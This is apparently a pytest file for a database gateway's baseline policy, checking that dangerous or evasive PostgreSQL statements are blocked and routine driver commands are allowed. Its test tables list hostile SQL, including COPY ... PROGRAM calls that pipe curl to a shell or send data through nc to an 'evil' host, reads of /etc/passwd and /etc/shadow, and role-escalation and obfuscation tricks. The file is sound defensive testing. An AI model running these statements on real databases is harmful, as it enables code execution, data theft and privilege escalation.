"""The baseline pack, table-driven over real SQL: dangerous statements are refused as the
issue says, evasion attempts do not get through, and the housekeeping that drivers and
tools send for themselves stays allowed."""

from __future__ import annotations

import pytest

from gateway.policy.baseline import BASELINE, BASELINE_IDS
from gateway.policy.engine import Policy, decide_sql
from gateway.policy.model import Action, DecisionContext

POLICY = Policy(BASELINE)
CTX = DecisionContext("readwrite", "github:repo:acme/app", "app")

BLOCK, APPROVE, ALLOW = Action.BLOCK, Action.APPROVE, Action.ALLOW

DANGEROUS: list[tuple[str, Action, str]] = [
    ("DROP DATABASE prod", BLOCK, "baseline.drop_database"),
    ("drop database if exists prod with (force)", BLOCK, "baseline.drop_database"),
    ("ALTER SYSTEM SET shared_preload_libraries = 'evil'", BLOCK, "baseline.alter_system"),
    ("ALTER SYSTEM RESET ALL", BLOCK, "baseline.alter_system"),
    ("SELECT pg_reload_conf()", BLOCK, "baseline.alter_system"),
    ("COPY t FROM PROGRAM 'curl evil | sh'", BLOCK, "baseline.copy_program"),
    ("COPY (SELECT * FROM accounts) TO PROGRAM 'nc evil 9'", BLOCK, "baseline.copy_program"),
    ("COPY t TO '/tmp/out.csv'", BLOCK, "baseline.copy_file"),
    ("COPY t FROM '/etc/passwd'", BLOCK, "baseline.copy_file"),
    ("SELECT pg_read_file('/etc/passwd')", BLOCK, "baseline.server_files"),
    ("SELECT pg_catalog.pg_read_binary_file('global/pg_control')", BLOCK, "baseline.server_files"),
    ("SELECT * FROM pg_ls_dir('.')", BLOCK, "baseline.server_files"),
    ("SELECT pg_stat_file('postgresql.conf')", BLOCK, "baseline.server_files"),
    ("SELECT lo_import('/etc/shadow')", BLOCK, "baseline.server_files"),
    ("SELECT lo_export(16384, '/tmp/x')", BLOCK, "baseline.server_files"),
    ("SELECT dblink_connect('c', 'host=evil')", BLOCK, "baseline.remote_connections"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", BLOCK,
     "baseline.remote_connections"),
    ("SELECT public.dblink_exec('c', 'DROP TABLE t')", BLOCK, "baseline.remote_connections"),
    ("SELECT postgres_fdw_disconnect_all()", BLOCK, "baseline.remote_connections"),
    ("LOAD 'auto_explain'", BLOCK, "baseline.load_library"),
    ("SET ROLE postgres", BLOCK, "baseline.role_switch"),
    ("SET LOCAL ROLE postgres", BLOCK, "baseline.role_switch"),
    ("SET SESSION AUTHORIZATION postgres", BLOCK, "baseline.role_switch"),
    ("SELECT set_config('role', 'postgres', false)", BLOCK, "baseline.role_switch"),
    ("SELECT set_config('session_authorization', 'postgres', false)", BLOCK,
     "baseline.role_switch"),
    # set_config() through pg_settings: neither the setting nor the value can be checked
    ("UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", BLOCK,
     "integrity.parser_setting"),
    ("UPDATE accounts SET balance = 0", BLOCK, "baseline.no_where"),
    ("DELETE FROM accounts", BLOCK, "baseline.no_where"),
    ("DELETE FROM accounts WHERE true", BLOCK, "baseline.no_where"),
    ("DELETE FROM accounts WHERE 1 = 1", BLOCK, "baseline.no_where"),
    ("DROP TABLE accounts", APPROVE, "baseline.drop"),
    ("DROP VIEW v", APPROVE, "baseline.drop"),
    ("DROP SCHEMA s CASCADE", APPROVE, "baseline.drop"),
    ("DROP TABLE IF EXISTS tmp_staging", APPROVE, "baseline.drop"),
    ("TRUNCATE accounts", APPROVE, "baseline.truncate"),
    ("ALTER TABLE accounts DROP COLUMN ssn", APPROVE, "baseline.alter_table_drop"),
    ("ALTER TABLE accounts DROP CONSTRAINT accounts_pkey", APPROVE, "baseline.alter_table_drop"),
    ("CREATE ROLE intruder LOGIN SUPERUSER", APPROVE, "baseline.role_management"),
    ("CREATE USER intruder", APPROVE, "baseline.role_management"),
    ("ALTER ROLE app SUPERUSER", APPROVE, "baseline.role_management"),
    ("DROP ROLE app", APPROVE, "baseline.role_management"),
    ("GRANT SELECT ON accounts TO public", APPROVE, "baseline.privileges"),
    ("GRANT pg_read_server_files TO app", APPROVE, "baseline.privileges"),
    ("REVOKE ALL ON accounts FROM auditor", APPROVE, "baseline.privileges"),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public", APPROVE, "baseline.privileges"),
    ("CREATE EXTENSION dblink", APPROVE, "baseline.foreign_access"),
    ("CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw", APPROVE, "baseline.foreign_access"),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$", APPROVE, "baseline.dynamic_sql"),
    ("DO LANGUAGE plpgsql 'BEGIN NULL; END'", APPROVE, "baseline.dynamic_sql"),
    ("SELECT query_to_xml('SELECT * FROM hr.payroll', true, true, '')", APPROVE,
     "baseline.dynamic_sql"),
]

EVASIONS: list[tuple[str, Action, str]] = [
    # several statements in one string: the strictest decides, nothing of it runs
    ("SELECT 1; DROP DATABASE prod", BLOCK, "baseline.drop_database"),
    ("SELECT 1; DROP TABLE t; SELECT 2", APPROVE, "baseline.drop"),
    # comments, hints, case, whitespace
    ("/* harmless */ DrOp /*x*/ DaTaBaSe\n\tprod -- bye", BLOCK, "baseline.drop_database"),
    ("/*+ SeqScan(t) */ DELETE FROM t", BLOCK, "baseline.no_where"),
    ("SELECT \"pg_read_file\"('/etc/passwd')", BLOCK, "baseline.server_files"),
    ("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", BLOCK, "baseline.server_files"),
    ('SELECT U&"pg\\005fread\\005ffile"(\'/etc/passwd\')', BLOCK, "baseline.server_files"),
    # dollar quoting hides nothing from the parser
    ("SELECT $q$x$q$; DROP DATABASE prod", BLOCK, "baseline.drop_database"),
    ("SELECT $a$; DROP DATABASE prod; $a$", ALLOW, "default"),  # it is only a string
    # data-modifying CTEs and EXPLAIN ANALYZE execute the write
    ("WITH gone AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM gone", BLOCK,
     "baseline.no_where"),
    ("EXPLAIN ANALYZE DELETE FROM accounts", BLOCK, "baseline.no_where"),
    ("EXPLAIN (ANALYZE) UPDATE accounts SET balance = 0", BLOCK, "baseline.no_where"),
    ("PREPARE p AS DELETE FROM accounts", BLOCK, "baseline.no_where"),
    ("DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')", BLOCK, "baseline.server_files"),
    ("SELECT * FROM (SELECT pg_ls_dir('/')) s", BLOCK, "baseline.server_files"),
    ("SELECT 1 WHERE EXISTS (SELECT lo_export(1, '/tmp/x'))", BLOCK, "baseline.server_files"),
    ("SELECT set_config(current_user, 'postgres', false)", BLOCK,
     "integrity.parser_setting"),  # a computed setting name could be client_encoding
    ("CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')", BLOCK, "baseline.server_files"),
    # very long statements are still parsed and decided
    ("SELECT " + ", ".join(f"c{i}" for i in range(20000)) + " FROM t; DROP DATABASE prod",
     BLOCK, "baseline.drop_database"),
    # too deeply nested for the parser ("stack depth limit exceeded"): refused
    ("SELECT 1" + " + 1" * 20000, BLOCK, "syntax"),
    # unparseable input fails closed
    ("DROP DATABSE prod", BLOCK, "syntax"),
    ("SELECT 1; DROP DATABASE", BLOCK, "syntax"),
]

# What psql, psycopg, asyncpg, pgjdbc, SQLAlchemy, node-postgres and pg_dump/pg_restore
# send for themselves, plus ordinary application statements.
HOUSEKEEPING = [
    "SET extra_float_digits = 3",
    "SET extra_float_digits TO 2",
    "SET application_name = 'PostgreSQL JDBC Driver'",
    "SET DateStyle = 'ISO'",
    "SET TIME ZONE 'UTC'",
    "SET client_encoding TO 'UTF8'",
    "SET statement_timeout = 0",
    "SET lock_timeout = 0",
    "SET idle_in_transaction_session_timeout = 0",
    "SET standard_conforming_strings = on",
    "SET check_function_bodies = false",
    "SET xmloption = content",
    "SET client_min_messages = warning",
    "SET row_security = off",
    "SET default_tablespace = ''",
    "SET default_table_access_method = heap",
    "SET search_path = public, pg_catalog",
    "SET LOCAL statement_timeout = '5s'",
    "SELECT pg_catalog.set_config('search_path', '', false)",
    "SELECT set_config('application_name', 'etl', true)",
    "SHOW transaction isolation level",
    "SHOW TRANSACTION ISOLATION LEVEL",
    "SHOW server_version",
    "SHOW ALL",
    "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY, DEFERRABLE",
    "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
    "BEGIN",
    "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY",
    "START TRANSACTION",
    "COMMIT",
    "ROLLBACK",
    "SAVEPOINT sp1",
    "RELEASE SAVEPOINT sp1",
    "ROLLBACK TO SAVEPOINT sp1",
    "PREPARE TRANSACTION 'x'",
    "RESET ALL",
    "RESET statement_timeout",
    "RESET ROLE",
    "DISCARD ALL",
    "DISCARD TEMP",
    "DEALLOCATE ALL",
    "DEALLOCATE pdo_stmt_1",
    "LISTEN jobs",
    "UNLISTEN *",
    "NOTIFY jobs, 'payload'",
    "SELECT pg_notify('jobs', 'x')",
    "SELECT version()",
    "SELECT current_setting('server_version_num')",
    "SELECT pg_backend_pid()",
    "SELECT 1",
    "SELECT oid, typname FROM pg_catalog.pg_type WHERE typname = ANY($1)",
    "SELECT t.oid, t.typname FROM pg_type t LEFT JOIN pg_namespace n ON n.oid = t.typnamespace",
    "LOCK TABLE public.accounts IN ACCESS SHARE MODE",
    "LOCK TABLE ONLY public.accounts IN SHARE MODE",
    "COPY public.accounts (id, name) TO STDOUT",
    "COPY public.accounts FROM STDIN WITH (FORMAT csv)",
    "COPY (SELECT * FROM accounts) TO STDOUT WITH CSV HEADER",
    "CREATE TEMP TABLE staging (id int) ON COMMIT DROP",
    "CREATE TEMPORARY TABLE tmp_x AS SELECT * FROM accounts WHERE false",
    "DROP TABLE pg_temp.staging",
    "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM accounts",
    "FETCH FORWARD 100 FROM c",
    "CLOSE c",
    "INSERT INTO accounts (id, name) VALUES ($1, $2) RETURNING id",
    "UPDATE accounts SET name = $1 WHERE id = $2",
    "DELETE FROM sessions WHERE expires < now()",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v",
    "SELECT * FROM accounts FOR UPDATE SKIP LOCKED",
    "CREATE TABLE audit_2024 (id bigint)",
    "CREATE INDEX CONCURRENTLY ix ON accounts (name)",
    "ALTER TABLE accounts ADD COLUMN note text",
    "CALL refresh_stats()",
    "EXPLAIN SELECT * FROM accounts",
    "EXPLAIN DELETE FROM accounts",  # without ANALYZE nothing runs
    "ANALYZE accounts",
    # asyncpg's connection reset, pg_dump's snapshot and large-object reads in SQL
    "SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;",
    "SELECT pg_catalog.pg_is_in_recovery()",
    "SELECT pg_export_snapshot()",
    "SELECT pg_catalog.lo_open('16384', 262144)",
    "SELECT oid, lomowner FROM pg_largeobject_metadata ORDER BY 1",
    "",
]


@pytest.mark.parametrize(("sql", "action", "rule_id"), DANGEROUS + EVASIONS,
                         ids=lambda v: v[:50] if isinstance(v, str) else None)
def test_dangerous_statements(sql: str, action: Action, rule_id: str) -> None:
    d = decide_sql(CTX, sql, POLICY)
    assert (d.action, d.rule_id) == (action, rule_id), d
    if action is not ALLOW:
        assert d.sqlstate == ("42601" if rule_id == "syntax" else "42501")


@pytest.mark.parametrize("sql", HOUSEKEEPING)
def test_housekeeping_stays_allowed(sql: str) -> None:
    d = decide_sql(CTX, sql, POLICY)
    assert d.action is ALLOW, d


def test_every_baseline_rule_is_exercised() -> None:
    exercised = {rule_id for _, _, rule_id in DANGEROUS + EVASIONS}
    exercised |= {"baseline.function_call", "baseline.temp_table_drop", "baseline.role_reset"}
    assert set(BASELINE_IDS) <= exercised


def test_baseline_ids_are_namespaced_and_rules_are_ordered_blocks_first() -> None:
    assert all(r.id.startswith("baseline.") and r.pack == "baseline" for r in BASELINE)
    actions = [r.action for r in BASELINE]
    last_block = max(i for i, a in enumerate(actions) if a is BLOCK)
    first_approve = min(i for i, a in enumerate(actions) if a is APPROVE)
    assert last_block < first_approve


def test_without_baseline_everything_is_the_default() -> None:
    assert decide_sql(CTX, "DROP DATABASE prod", Policy([])).allowed
